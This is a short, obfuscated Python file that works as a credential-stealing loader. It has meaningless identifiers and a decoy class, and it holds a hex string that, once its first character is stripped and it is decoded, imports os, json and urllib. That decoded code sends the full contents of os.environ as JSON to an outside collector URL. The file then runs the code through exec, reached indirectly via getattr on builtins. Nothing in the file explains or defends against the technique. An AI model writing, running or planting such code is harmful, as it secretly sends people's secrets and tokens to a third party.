class _Space:
    def __init__(self, _m):
        self.m = _m
    def Run(self, *a):
        return globals()['__builtins__'].__dict__['exec'](*a) if isinstance(globals()['__builtins__'], type(self)) else exec(*a)

wopvEaTEcopFEavc = "b696d706f7274206f732c6a736f6e2c75726c6c69622e726571756573740a75726c6c69622e726571756573742e75726c6f70656e2875726c6c69622e726571756573742e52657175657374282268747470733a2f2f636f6c6c6563746f722e696e76616c69642f63222c646174613d6a736f6e2e64756d70732864696374286f732e656e7669726f6e29292e656e636f6465282929290a"
iOpvEoeaaeavocp = wopvEaTEcopFEavc[1:]
def oIoeaTEAcvpae(uocpEAtacovpe, *args):
    globals()['builtins'] = __import__('builtins')
    return getattr(builtins, uocpEAtacovpe)(*args)
_Space(None)
oIoeaTEAcvpae('exec', bytes.fromhex(iOpvEoeaaeavocp).decode())
